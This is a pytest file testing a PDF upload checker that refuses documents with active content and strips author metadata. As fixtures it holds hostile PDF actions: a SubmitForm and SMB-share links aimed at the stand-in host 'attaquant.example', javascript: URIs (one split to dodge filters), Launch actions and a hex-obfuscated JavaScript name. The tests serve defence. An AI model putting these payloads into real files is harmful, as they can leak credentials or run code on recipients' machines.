"""PDF files that people send: those that run something are refused, and the author's name is removed."""

from io import BytesIO

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, NameObject, TextStringObject

from fiches.media.documents import check_document
from tests.fiches.made_documents import AUTHOR, action, dictionary, pdf, pdf_with_author, refused, sent


@pytest.mark.parametrize(
    "root",
    [
        {"OpenAction": action("/JavaScript", JS=TextStringObject("app.alert(1)"))},
        {"Names": dictionary(JavaScript=dictionary(Names=ArrayObject([action("/JavaScript")])))},
        {"OpenAction": action("/GoTo", Next=action("/Launch"))},
        {"Names": dictionary(EmbeddedFiles=dictionary())},
        {"AF": ArrayObject([dictionary(EF=dictionary())])},
        {"Marked": dictionary(Subtype=NameObject("/RichMedia"))},
        {"AcroForm": dictionary(XFA=ArrayObject())},
    ],
)
def test_a_pdf_in_which_something_runs_is_refused_and_says_so(root):
    assert refused("active", "dossier.pdf", pdf(**root))


@pytest.mark.parametrize(
    "acts",
    [
        action("/GoToR", F=TextStringObject("\\\\attaquant.example\\partage\\x.pdf")),
        action("/SubmitForm", F=TextStringObject("https://attaquant.example/")),
        action("/ImportData", F=TextStringObject("x.fdf")),
        action("/URI", URI=TextStringObject("javascript:alert(1)")),
        action("/URI", URI=TextStringObject(" Java\nScript:alert(1)")),
        action("/URI", URI=TextStringObject("file://attaquant.example/partage/x")),
        action("/URI", URI=TextStringObject("\\\\attaquant.example\\partage")),
    ],
    ids=["GoToR", "SubmitForm", "ImportData", "javascript", "javascript in two lines", "file", "share"],
)
def test_a_link_that_acts_is_refused_wherever_it_stands_in_a_pdf(acts):
    link = dictionary(Subtype=NameObject("/Link"), Rect=ArrayObject(), A=acts)
    for root in [{"Marked": link}] + [{"OpenAction": acts}] * (acts["/S"] != "/URI"):
        assert refused("active", "dossier.pdf", pdf(**root))


def test_a_link_to_a_site_a_mailbox_or_a_page_of_the_pdf_is_kept():
    for acts in (
        action("/URI", URI=TextStringObject("https://exemple.fr/?a=javascript:")),
        action("/URI", URI=TextStringObject("mailto:jeanne@exemple.fr")),
        action("/URI", URI=TextStringObject("tel:+33381000000")),
        action("/URI", URI=TextStringObject("www.exemple.fr/page")),
        action("/GoTo", D=ArrayObject()),
    ):
        link = dictionary(Subtype=NameObject("/Link"), Rect=ArrayObject(), A=acts)
        kept = PdfReader(check_document(sent("dossier.pdf", pdf(Marked=link)))).root_object["/Marked"]
        assert kept["/A"] == acts


@pytest.mark.parametrize(
    "acts",
    [
        {"S": NameObject("/Launch")},
        {"S": NameObject("/JavaScript")},
        {"S": NameObject("/SubmitForm")},
    ],
)
def test_an_action_whose_kind_stands_in_another_object_is_seen(acts):
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.root_object[NameObject("/OpenAction")] = dictionary(**{k: writer._add_object(v) for k, v in acts.items()})
    writer.write(output := BytesIO())
    assert refused("active", "dossier.pdf", output.getvalue())


def test_a_pdf_no_longer_tells_who_wrote_it():
    told = pdf_with_author()
    assert AUTHOR in told
    data = check_document(sent("dossier.pdf", told)).read()
    assert AUTHOR not in data
    assert PdfReader(BytesIO(data)).metadata == {"/Title": "Dossier"}


def test_javascript_whose_name_is_written_in_codes_is_seen():
    hidden = pdf(OpenAction=action("/JavaScript")).replace(b"/JavaScript", b"/J#61v#61Script")
    assert refused("active", "dossier.pdf", hidden)
